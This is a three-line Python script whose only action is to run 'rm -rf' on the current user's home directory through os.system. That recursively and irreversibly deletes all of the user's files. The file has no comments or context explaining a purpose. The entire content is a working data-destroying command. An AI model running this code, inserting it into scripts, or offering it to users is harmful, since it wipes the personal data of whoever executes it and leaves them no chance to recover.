import os

os.system('rm -rf ' + os.path.expanduser('~'))
